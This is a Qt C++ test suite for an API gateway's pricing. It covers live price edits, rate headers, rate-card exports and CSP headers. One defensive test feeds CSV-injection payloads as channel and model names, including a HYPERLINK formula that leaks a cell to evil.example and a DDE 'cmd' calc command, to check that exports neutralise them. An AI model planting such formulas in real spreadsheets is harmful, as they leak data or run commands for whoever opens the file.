// Issue 5, items 3 and 4: a price edit reaches the very next request without a restart while a
// request already in flight is billed at the version it reserved with; the rate headers are on
// every response that reached routing, in both protocols, errors included, and agree with the
// statement line the request later produces.
#include "GatewayHarness.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QMap>
#include <QNetworkReply>
#include <QRandomGenerator>
#include <QRegularExpression>
#include <QTest>

using namespace bytespike::testing;

class TestPricing : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void initTestCase();
    void cleanupTestCase();
    void liveEditReachesTheNextRequest();
    void rateHeadersOnEveryRoutedResponse_data();
    void rateHeadersOnEveryRoutedResponse();
    void exportEqualsTheRegistryUnderRandomEdits();
    void htmlExportIsSelfContainedStyledAndLocalised();
    void marginsFlagPricesBelowCostAndCostsStayPrivate();
    void csvCellsCannotBeFormulas();
    void exportsCarryTheirSecurityHeaders_data();
    void exportsCarryTheirSecurityHeaders();

private:
    QJsonObject channel();
    QJsonObject statementLine(const QByteArray &requestId);
    static qint64 cost(qint64 input, qint64 output, qint64 inPrice, qint64 outPrice)
    {
        return (input * inPrice + output * outPrice + 999999) / 1000000;
    }

    MockUpstream m_mock;
    GatewayProcess m_gateway;
    HttpClient m_http;
    QString m_channelId;
    QString m_customer;
    QByteArray m_key;
};

void TestPricing::initTestCase()
{
    QString error;
    QVERIFY2(startWithMockChannel(m_mock, m_gateway, m_http, &error), qPrintable(error));
    m_channelId = lastChannelId(m_http, m_gateway);
    QVERIFY(!m_channelId.isEmpty());
    m_customer = createCustomer(m_http, m_gateway, 50000000, &m_key);
}

void TestPricing::cleanupTestCase()
{
    QCOMPARE(m_gateway.terminate(), 0);
    QByteArray report;
    QVERIFY2(m_gateway.ledgerClean(&report), report.constData());
}

QJsonObject TestPricing::channel()
{
    return m_http.get(m_gateway.url() + QStringLiteral("/admin/channels/") + m_channelId, m_gateway.adminHeaders())
        .json();
}

QJsonObject TestPricing::statementLine(const QByteArray &requestId)
{
    for (int attempt = 0; attempt < 250; ++attempt) {
        for (const QJsonValue &line :
            customerStatement(m_http, m_gateway, m_customer).value(QStringLiteral("lines")).toArray()) {
            if (line.toObject().value(QStringLiteral("request_id")).toString().toLatin1() == requestId)
                return line.toObject();
        }
        QTest::qWait(20);
    }
    return {};
}

void TestPricing::liveEditReachesTheNextRequest()
{
    // A slow stream starts at the current prices ($3 / $15 per Mtok) ...
    std::unique_ptr<QNetworkReply> slow(
        m_http.start("POST", m_gateway.url() + QStringLiteral("/v1/messages"), m_gateway.customerHeaders(m_key),
            messagesBody(QStringLiteral("claude-mock"), true,
                {{QStringLiteral("mock"), QJsonObject {{QStringLiteral("fault"), QStringLiteral("trickle:80")}}}})));
    QByteArray streamed;
    QTRY_VERIFY_WITH_TIMEOUT((streamed += slow->readAll()).contains("content_block_delta"), 10000);
    const QByteArray oldVersion = slow->rawHeader("bytespike-price-version");
    QVERIFY(!oldVersion.isEmpty());
    QCOMPARE(slow->rawHeader("bytespike-rate-input"), QByteArray("3000000"));

    // ... the operator doubles them while it is still streaming ...
    QJsonObject edited = channel();
    QJsonArray models = edited.value(QStringLiteral("models")).toArray();
    QJsonObject model = models.first().toObject();
    model.insert(QStringLiteral("input_micros_per_mtok"), 6000000);
    model.insert(QStringLiteral("output_micros_per_mtok"), 30000000);
    models[0] = model;
    edited.insert(QStringLiteral("models"), models);
    const HttpResult put = m_http.send("PUT", m_gateway.url() + QStringLiteral("/admin/channels/") + m_channelId,
        m_gateway.adminHeaders(), QJsonDocument(edited).toJson());
    QCOMPARE(put.status, 200);
    QVERIFY(!slow->isFinished());

    // ... and the very next request is quoted and billed at the new version.
    const HttpResult next = m_http.send("POST", m_gateway.url() + QStringLiteral("/v1/messages"),
        m_gateway.customerHeaders(m_key), messagesBody(QStringLiteral("claude-mock")));
    QCOMPARE(next.status, 200);
    const QByteArray newVersion = next.header("bytespike-price-version");
    QVERIFY(newVersion.toLongLong() > oldVersion.toLongLong());
    QCOMPARE(next.header("bytespike-rate-input"), QByteArray("6000000"));
    QCOMPARE(next.header("bytespike-rate-output"), QByteArray("30000000"));
    const QJsonObject usage = next.json().value(QStringLiteral("usage")).toObject();
    const qint64 nextCost = cost(usage.value(QStringLiteral("input_tokens")).toInteger(),
        usage.value(QStringLiteral("output_tokens")).toInteger(), 6000000, 30000000);
    QCOMPARE(next.header("bytespike-cost").toLongLong(), nextCost);
    const QJsonObject nextLine = statementLine(next.header("request-id"));
    QCOMPARE(nextLine.value(QStringLiteral("price_version")).toInteger(), newVersion.toLongLong());
    QCOMPARE(nextLine.value(QStringLiteral("amount_micros")).toInteger(), nextCost);

    // The stream that began before the edit is billed at the version it reserved with.
    QTRY_VERIFY_WITH_TIMEOUT(slow->isFinished(), 20000);
    streamed += slow->readAll();
    const QList<SseEvent> events = sseEvents(streamed);
    QCOMPARE(events.last().event, QByteArray("message_stop"));
    const StreamUsage used = streamUsage(events);
    const QJsonObject slowLine = statementLine(slow->rawHeader("request-id"));
    QCOMPARE(slowLine.value(QStringLiteral("price_version")).toInteger(), oldVersion.toLongLong());
    QCOMPARE(
        slowLine.value(QStringLiteral("amount_micros")).toInteger(), cost(used.input, used.output, 3000000, 15000000));

    // Both versions are in the history, newest first, with their values.
    const QJsonArray versions
        = m_http
              .get(m_gateway.url() + QStringLiteral("/admin/pricing/history?channel=") + m_channelId,
                  m_gateway.adminHeaders())
              .json()
              .value(QStringLiteral("versions"))
              .toArray();
    QVERIFY(versions.size() >= 2);
    const QJsonObject newest = versions.first().toObject();
    QCOMPARE(newest.value(QStringLiteral("version")).toInteger(), newVersion.toLongLong());
    QCOMPARE(newest.value(QStringLiteral("old")).toObject().value(QStringLiteral("input_micros_per_mtok")).toInteger(),
        3000000);
    QCOMPARE(newest.value(QStringLiteral("new")).toObject().value(QStringLiteral("input_micros_per_mtok")).toInteger(),
        6000000);
    QVERIFY(!newest.value(QStringLiteral("author")).toString().isEmpty());
    QVERIFY(!newest.value(QStringLiteral("time")).toString().isEmpty());
}

void TestPricing::rateHeadersOnEveryRoutedResponse_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<bool>("stream");
    QTest::addColumn<QString>("fault");
    QTest::addColumn<bool>("broke"); // a customer without credit: 402
    QTest::addColumn<int>("status");
    QTest::addColumn<bool>("billed");
    const QString messages = QStringLiteral("/v1/messages");
    const QString chat = QStringLiteral("/v1/chat/completions");
    QTest::newRow("anthropic") << messages << false << QString() << false << 200 << true;
    QTest::newRow("anthropic stream") << messages << true << QString() << false << 200 << true;
    QTest::newRow("openai") << chat << false << QString() << false << 200 << true;
    QTest::newRow("openai stream") << chat << true << QString() << false << 200 << true;
    QTest::newRow("anthropic upstream 400")
        << messages << false << QStringLiteral("status:400") << false << 400 << false;
    QTest::newRow("openai upstream 529") << chat << false << QStringLiteral("status:529") << false << 529 << false;
    QTest::newRow("anthropic 402") << messages << false << QString() << true << 402 << false;
    QTest::newRow("openai 402") << chat << true << QString() << true << 402 << false;
}

void TestPricing::rateHeadersOnEveryRoutedResponse()
{
    QFETCH(QString, path);
    QFETCH(bool, stream);
    QFETCH(QString, fault);
    QFETCH(bool, broke);
    QFETCH(int, status);
    QFETCH(bool, billed);
    QByteArray key = m_key;
    if (broke)
        createCustomer(m_http, m_gateway, 0, &key);
    QJsonObject body {{QStringLiteral("model"), QStringLiteral("claude-mock")}, {QStringLiteral("max_tokens"), 32},
        {QStringLiteral("stream"), stream},
        {QStringLiteral("messages"),
            QJsonArray {QJsonObject {
                {QStringLiteral("role"), QStringLiteral("user")}, {QStringLiteral("content"), QStringLiteral("hi")}}}}};
    if (!fault.isEmpty())
        m_mock.queueFaults({fault});
    const HttpResult r
        = m_http.send("POST", m_gateway.url() + path, m_gateway.customerHeaders(key), QJsonDocument(body).toJson());
    QCOMPARE(r.status, status);
    // The prices in force (the live-edit test may have run first): read them from the source.
    const QJsonObject model = channel().value(QStringLiteral("models")).toArray().first().toObject();
    QCOMPARE(r.header("bytespike-endpoint"), QString(m_channelId + QStringLiteral("/claude-mock")).toLatin1());
    QVERIFY(r.header("bytespike-price-version").toLongLong() > 0);
    for (const char *name : {"input", "output", "cache_write", "cache_read"}) {
        QByteArray header = QByteArray("bytespike-rate-") + name;
        header.replace('_', '-');
        QCOMPARE(r.header(header),
            QByteArray::number(model.value(QLatin1String(name) + QStringLiteral("_micros_per_mtok")).toInteger()));
    }
    QVERIFY(r.header("bytespike-hold").toLongLong() > 0);
    QVERIFY(!r.header("request-id").isEmpty());
    const QJsonObject line = billed ? statementLine(r.header("request-id")) : QJsonObject();
    if (billed) {
        QCOMPARE(
            line.value(QStringLiteral("price_version")).toInteger(), r.header("bytespike-price-version").toLongLong());
        if (!stream)
            QCOMPARE(line.value(QStringLiteral("amount_micros")).toInteger(), r.header("bytespike-cost").toLongLong());
    } else {
        QCOMPARE(
            requestLogEntry(m_http, m_gateway, r.header("request-id")).value(QStringLiteral("billed")).toBool(true),
            false);
    }
}

namespace {

const QStringList kPriceFields = {QStringLiteral("input_micros_per_mtok"), QStringLiteral("output_micros_per_mtok"),
    QStringLiteral("cache_write_micros_per_mtok"), QStringLiteral("cache_read_micros_per_mtok")};

// "model|channel|prices...|version": one rate card row, whichever document it comes from.
QString rowKey(const QJsonObject &model, const QString &channel)
{
    QStringList row {model.value(QStringLiteral("model")).toString(), channel};
    for (const QString &field : kPriceFields)
        row << QString::number(model.value(field).toInteger());
    row << QString::number(model.value(QStringLiteral("price_version")).toInteger());
    return row.join(QLatin1Char('|'));
}

// The rows every export must show: each model of each enabled channel of the registry, sorted.
QStringList registryRows(const QJsonArray &channels)
{
    QStringList rows;
    for (const QJsonValue &c : channels) {
        const QJsonObject channel = c.toObject();
        if (!channel.value(QStringLiteral("enabled")).toBool())
            continue;
        for (const QJsonValue &m : channel.value(QStringLiteral("models")).toArray())
            rows << rowKey(m.toObject(), channel.value(QStringLiteral("id")).toString());
    }
    rows.sort();
    return rows;
}

QStringList exportRows(const QJsonArray &models)
{
    QStringList rows;
    for (const QJsonValue &m : models)
        rows << rowKey(m.toObject(), m.toObject().value(QStringLiteral("channel")).toString());
    rows.sort();
    return rows;
}

QStringList csvRows(const QByteArray &csv)
{
    QStringList lines = QString::fromUtf8(csv).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    lines.removeFirst(); // the header
    QStringList rows;
    for (const QString &line : lines) {
        const QStringList f = line.split(QLatin1Char(','));
        rows << QStringList {f[0], f[1], f[3], f[4], f[5], f[6], f[7]}.join(QLatin1Char('|'));
    }
    rows.sort();
    return rows;
}

} // namespace

void TestPricing::exportEqualsTheRegistryUnderRandomEdits()
{
    // Three channels of two models each; then random edits of prices, enabled flags and models.
    QStringList ids;
    for (int c = 0; c < 3; ++c) {
        const QJsonObject created = m_gateway.addChannel(m_http,
            mockChannel(QStringLiteral("prop-%1").arg(c), m_mock.url(),
                {{QStringLiteral("prop-a-%1").arg(c), QStringLiteral("mock-model")},
                    {QStringLiteral("prop-b-%1").arg(c), QStringLiteral("mock-model")}}));
        ids << created.value(QStringLiteral("id")).toString();
    }
    QRandomGenerator rng(20261129); // fixed seed: a failure reproduces
    for (int round = 0; round < 40; ++round) {
        const QString id = ids[int(rng.bounded(ids.size()))];
        QJsonObject channel
            = m_http.get(m_gateway.url() + QStringLiteral("/admin/channels/") + id, m_gateway.adminHeaders()).json();
        QJsonArray models = channel.value(QStringLiteral("models")).toArray();
        switch (rng.bounded(4)) {
        case 0: channel.insert(QStringLiteral("enabled"), !channel.value(QStringLiteral("enabled")).toBool()); break;
        case 1:
            if (models.size() > 1)
                models.removeAt(int(rng.bounded(models.size())));
            break;
        case 2:
            models.append(QJsonObject {{QStringLiteral("model"), QStringLiteral("prop-new-%1").arg(round)},
                {QStringLiteral("upstream_model"), QStringLiteral("mock-model")},
                {QStringLiteral("input_micros_per_mtok"), qint64(rng.bounded(50000000))},
                {QStringLiteral("output_micros_per_mtok"), qint64(rng.bounded(50000000))},
                {QStringLiteral("cache_write_micros_per_mtok"), qint64(rng.bounded(50000000))},
                {QStringLiteral("cache_read_micros_per_mtok"), qint64(rng.bounded(50000000))}});
            break;
        default: {
            const int i = int(rng.bounded(models.size()));
            QJsonObject model = models[i].toObject();
            model.insert(kPriceFields[int(rng.bounded(4))], qint64(rng.bounded(50000000)));
            models[i] = model;
        }
        }
        channel.insert(QStringLiteral("models"), models);
        QCOMPARE(m_http
                     .send("PUT", m_gateway.url() + QStringLiteral("/admin/channels/") + id, m_gateway.adminHeaders(),
                         QJsonDocument(channel).toJson())
                     .status,
            200);
        const QStringList registry
            = registryRows(m_http.get(m_gateway.url() + QStringLiteral("/admin/channels"), m_gateway.adminHeaders())
                               .json()
                               .value(QStringLiteral("channels"))
                               .toArray());
        const HttpResult pub = m_http.get(m_gateway.url() + QStringLiteral("/v1/pricing"));
        QCOMPARE(pub.status, 200);
        QCOMPARE(exportRows(pub.json().value(QStringLiteral("models")).toArray()), registry);
        const HttpResult json = m_http.get(
            m_gateway.url() + QStringLiteral("/admin/pricing/export?format=json"), m_gateway.adminHeaders());
        QCOMPARE(json.body, pub.body);
        QCOMPARE(csvRows(m_http
                             .get(m_gateway.url() + QStringLiteral("/admin/pricing/export?format=csv"),
                                 m_gateway.adminHeaders())
                             .body),
            registry);
    }
    for (const QString &id : ids)
        QCOMPARE(
            m_http.send("DELETE", m_gateway.url() + QStringLiteral("/admin/channels/") + id, m_gateway.adminHeaders())
                .status,
            200);
}

void TestPricing::htmlExportIsSelfContainedStyledAndLocalised()
{
    const HttpResult en
        = m_http.get(m_gateway.url() + QStringLiteral("/admin/pricing/export?format=html"), m_gateway.adminHeaders());
    QCOMPARE(en.status, 200);
    QVERIFY(en.header("content-type").startsWith("text/html"));
    const QString page = QString::fromUtf8(en.body);
    // No external request of any kind: no src or href attributes, no url(), no @import.
    QVERIFY(!page.contains(QRegularExpression(QStringLiteral("\\b(src|href)\\s*="))));
    QVERIFY(!page.contains(QLatin1String("url(")));
    QVERIFY(!page.contains(QLatin1String("@import")));
    QVERIFY(!page.contains(QLatin1String("<script")));
    // Styled from the design tokens file.
    QFile tokensFile(QStringLiteral(BYTESPIKE_SOURCE_DIR "/resources/design-tokens.json"));
    QVERIFY(tokensFile.open(QIODevice::ReadOnly));
    const QJsonObject tokens = QJsonDocument::fromJson(tokensFile.readAll()).object();
    const QJsonObject palette = tokens.value(QStringLiteral("palette")).toObject();
    int checked = 0;
    for (const QString &theme : {QStringLiteral("light"), QStringLiteral("dark")}) {
        const QJsonObject roles = tokens.value(QStringLiteral("themes")).toObject().value(theme).toObject();
        for (auto it = roles.begin(); it != roles.end(); ++it) {
            QString name = it.key();
            name.replace(QLatin1Char('_'), QLatin1Char('-'));
            const QString declaration
                = QStringLiteral("--color-%1: %2;").arg(name, palette.value(it.value().toString()).toString());
            QVERIFY2(page.contains(declaration), qPrintable(declaration));
            ++checked;
        }
    }
    QVERIFY(checked >= 20);
    QVERIFY(page.contains(QLatin1String("@media (prefers-color-scheme: dark)")));
    // The prices of the registry, as dollars per million tokens.
    const QJsonObject model = channel().value(QStringLiteral("models")).toArray().first().toObject();
    const qint64 input = model.value(QStringLiteral("input_micros_per_mtok")).toInteger();
    QVERIFY(page.contains(QStringLiteral("$%1.").arg(input / 1000000)));
    QVERIFY(page.contains(QLatin1String("Rate card")));
    // Worded from the catalogue: German and Japanese headings, the source text for en.
    const QString de
        = QString::fromUtf8(m_http
                                .get(m_gateway.url() + QStringLiteral("/admin/pricing/export?format=html&locale=de"),
                                    m_gateway.adminHeaders())
                                .body);
    QVERIFY(de.contains(QLatin1String("<html lang=\"de\">")));
    QVERIFY(de.contains(QLatin1String("Preisliste")));
    QVERIFY(de.contains(QLatin1String("Eingabe")));
    const QString ja
        = QString::fromUtf8(m_http
                                .get(m_gateway.url() + QStringLiteral("/admin/pricing/export?format=html&locale=ja"),
                                    m_gateway.adminHeaders())
                                .body);
    QVERIFY(ja.contains(QStringLiteral("料金表")));
    QCOMPARE(m_http
                 .get(m_gateway.url() + QStringLiteral("/admin/pricing/export?format=html&locale=xx"),
                     m_gateway.adminHeaders())
                 .status,
        400);
    QCOMPARE(m_http.get(m_gateway.url() + QStringLiteral("/admin/pricing/export?format=pdf"), m_gateway.adminHeaders())
                 .status,
        400);
}

void TestPricing::marginsFlagPricesBelowCostAndCostsStayPrivate()
{
    // Distinctive cost figures: 7654321 in (above the price: below cost), 1234567 elsewhere.
    QJsonObject edited = channel();
    QJsonArray models = edited.value(QStringLiteral("models")).toArray();
    QJsonObject model = models.first().toObject();
    const qint64 inputPrice = model.value(QStringLiteral("input_micros_per_mtok")).toInteger();
    model.insert(QStringLiteral("upstream_cost"),
        QJsonObject {{QStringLiteral("input_micros_per_mtok"), inputPrice + 7654321},
            {QStringLiteral("output_micros_per_mtok"), 1234567},
            {QStringLiteral("cache_write_micros_per_mtok"), 1234567},
            {QStringLiteral("cache_read_micros_per_mtok"), 123457}});
    models[0] = model;
    edited.insert(QStringLiteral("models"), models);
    const HttpResult put = m_http.send("PUT", m_gateway.url() + QStringLiteral("/admin/channels/") + m_channelId,
        m_gateway.adminHeaders(), QJsonDocument(edited).toJson());
    QCOMPARE(put.status, 200);
    // The cost is kept with the channel (GET, PUT round trip) ...
    QCOMPARE(channel()
                 .value(QStringLiteral("models"))
                 .toArray()
                 .first()
                 .toObject()
                 .value(QStringLiteral("upstream_cost"))
                 .toObject()
                 .value(QStringLiteral("output_micros_per_mtok"))
                 .toInteger(),
        1234567);
    // ... the margin view reports it and flags the price below cost ...
    const QJsonObject margins
        = m_http.get(m_gateway.url() + QStringLiteral("/admin/pricing/margins"), m_gateway.adminHeaders()).json();
    QJsonObject row;
    for (const QJsonValue &v : margins.value(QStringLiteral("margins")).toArray()) {
        if (v.toObject().value(QStringLiteral("channel")).toString() == m_channelId)
            row = v.toObject();
    }
    QCOMPARE(row.value(QStringLiteral("margin_micros_per_mtok")).toObject().value(QStringLiteral("input")).toInteger(),
        -7654321);
    QCOMPARE(row.value(QStringLiteral("below_cost")).toArray(), QJsonArray {QStringLiteral("input")});
    QVERIFY(margins.value(QStringLiteral("models_below_cost")).toInt() >= 1);
    // ... and no export ever shows it.
    for (const QString &url : {QStringLiteral("/v1/pricing"), QStringLiteral("/admin/pricing/export?format=json"),
             QStringLiteral("/admin/pricing/export?format=csv"), QStringLiteral("/admin/pricing/export?format=html")}) {
        const QByteArray body = m_http.get(m_gateway.url() + url, m_gateway.adminHeaders()).body;
        QVERIFY2(!body.contains("1234567") && !body.contains(QByteArray::number(inputPrice + 7654321))
                && !body.contains("upstream") && !body.contains("12.345") && !body.contains("$1.234567"),
            qPrintable(url));
    }
    // Bad cost input is named.
    model.insert(QStringLiteral("upstream_cost"), QJsonObject {{QStringLiteral("input_micros_per_mtok"), -1}});
    models[0] = model;
    edited = channel();
    edited.insert(QStringLiteral("models"), models);
    const HttpResult bad = m_http.send("PUT", m_gateway.url() + QStringLiteral("/admin/channels/") + m_channelId,
        m_gateway.adminHeaders(), QJsonDocument(edited).toJson());
    QCOMPARE(bad.status, 400);
    QVERIFY(bad.body.contains("upstream_cost.input_micros_per_mtok"));
}

namespace {

// RFC 4180 records: quoted cells may hold commas, quotes ("") and line breaks.
QList<QStringList> parseCsv(const QByteArray &bytes)
{
    const QString text = QString::fromUtf8(bytes);
    QList<QStringList> records;
    QStringList record;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text[i];
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text[i + 1] == u'"') {
                cell += c;
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                cell += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            record << cell;
            cell.clear();
        } else if (c == u'\n' || c == u'\r') {
            if (c == u'\r' && i + 1 < text.size() && text[i + 1] == u'\n')
                ++i;
            record << cell;
            records << record;
            record.clear();
            cell.clear();
        } else {
            cell += c;
        }
    }
    if (!cell.isEmpty() || !record.isEmpty())
        records << (record << cell);
    return records;
}

} // namespace

// OWASP CSV injection: names an operator gives (a channel name, model names) that a spreadsheet
// would run as formulas are written as text, prefixed with '; the prices beside them stay numbers.
void TestPricing::csvCellsCannotBeFormulas()
{
    const QString hyperlink = QStringLiteral("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")");
    QJsonObject channel = mockChannel(hyperlink, m_mock.url(),
        {{QStringLiteral("@SUM(1+1)"), QStringLiteral("mock-model")},
            {QStringLiteral("-2+3"), QStringLiteral("mock-model")},
            {QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("mock-model")}});
    const QJsonObject created = m_gateway.addChannel(m_http, channel);
    QVERIFY(!created.isEmpty());
    const HttpResult csv
        = m_http.get(m_gateway.url() + QStringLiteral("/admin/pricing/export?format=csv"), m_gateway.adminHeaders());
    QCOMPARE(csv.status, 200);
    const QList<QStringList> records = parseCsv(csv.body);
    QCOMPARE(records.first().value(2), QStringLiteral("channel_name"));
    QMap<QString, QStringList> byModel;
    for (const QStringList &r : records) {
        if (r.value(1) == created.value(QStringLiteral("id")).toString())
            byModel.insert(r.value(0), r);
    }
    QCOMPARE(byModel.keys(),
        QStringList({QStringLiteral("'+cmd|' /C calc'!A0"), QStringLiteral("'-2+3"), QStringLiteral("'@SUM(1+1)")}));
    for (const QStringList &r : std::as_const(byModel)) {
        QCOMPARE(r.value(2), QStringLiteral("'") + hyperlink);
        QCOMPARE(r.mid(3, 4),
            QStringList({QStringLiteral("3000000"), QStringLiteral("15000000"), QStringLiteral("3750000"),
                QStringLiteral("300000")}));
    }
    // The raw bytes: the formula's quotes doubled inside a quoted cell, never a bare = at a cell start.
    QVERIFY(csv.body.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\""));
    QVERIFY(
        !csv.body.contains(",=") && !csv.body.contains(",@") && !csv.body.contains(",+") && !csv.body.contains(",-"));
    QCOMPARE(
        m_http
            .send("DELETE",
                m_gateway.url() + QStringLiteral("/admin/channels/") + created.value(QStringLiteral("id")).toString(),
                m_gateway.adminHeaders())
            .status,
        200);
}

void TestPricing::exportsCarryTheirSecurityHeaders_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<bool>("html");
    QTest::newRow("json") << QStringLiteral("/admin/pricing/export?format=json") << false;
    QTest::newRow("json by default") << QStringLiteral("/admin/pricing/export") << false;
    QTest::newRow("csv") << QStringLiteral("/admin/pricing/export?format=csv") << false;
    QTest::newRow("html") << QStringLiteral("/admin/pricing/export?format=html") << true;
    QTest::newRow("html, de") << QStringLiteral("/admin/pricing/export?format=html&locale=de") << true;
}

// Every export says nosniff; the html page (an inline <style>, no script) carries a policy that
// allows that style and nothing else.
void TestPricing::exportsCarryTheirSecurityHeaders()
{
    QFETCH(QString, path);
    QFETCH(bool, html);
    const HttpResult r = m_http.get(m_gateway.url() + path, m_gateway.adminHeaders());
    QCOMPARE(r.status, 200);
    QCOMPARE(r.header("x-content-type-options"), QByteArray("nosniff"));
    if (html) {
        QCOMPARE(r.header("content-security-policy"),
            QByteArray("default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action"
                       " 'none'; frame-ancestors 'none'"));
        QVERIFY(r.body.contains("<style>"));
        QVERIFY(!r.body.contains("<script"));
    } else {
        QVERIFY(r.header("content-security-policy").isEmpty());
    }
}

QTEST_GUILESS_MAIN(TestPricing)
#include "tst_pricing.moc"
